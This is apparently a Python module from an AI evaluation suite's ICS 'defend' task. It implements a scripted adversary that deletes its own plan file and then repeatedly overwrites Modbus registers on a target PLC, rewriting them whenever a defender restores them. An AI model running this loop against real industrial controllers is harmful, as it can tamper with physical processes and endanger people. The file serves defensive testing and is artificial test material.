"""The defend task's scripted adversary (a service on its own host; stdlib only).

    python3 -m prereview.suites.ics.adversary --plan PLAN.json

PLAN: {"plc": [host, port], "unit": N, "start_after_s": S, "period_s": P,
       "writes": [[address, value], ...]}. After S seconds it writes the plan over Modbus/TCP,
and again every P seconds (an attacker who notices a restore writes again), until stopped.
Reads its plan once and deletes it, so a defender who lands on its host learns nothing more.
"""

from __future__ import annotations

import argparse
import json
import os
import sys
import time
from typing import Any

from prereview.suites.ics.modbus_client import ModbusClient, ModbusError


def attack_once(plan: dict[str, Any]) -> int:
    host, port = plan["plc"]
    landed = 0
    try:
        with ModbusClient(str(host), int(port), int(plan["unit"])) as c:
            for address, value in plan["writes"]:
                try:
                    c.write_register(int(address), int(value))
                    landed += 1
                except ModbusError:
                    pass
    except OSError:
        pass
    return landed


def main(argv: list[str] | None = None) -> int:
    ap = argparse.ArgumentParser(prog="adversary")
    ap.add_argument("--plan", required=True)
    args = ap.parse_args(argv)
    with open(args.plan) as f:
        plan = json.load(f)
    os.unlink(args.plan)
    print("READY", flush=True)
    time.sleep(float(plan["start_after_s"]))
    while True:
        attack_once(plan)
        time.sleep(float(plan["period_s"]))


if __name__ == "__main__":
    sys.exit(main())
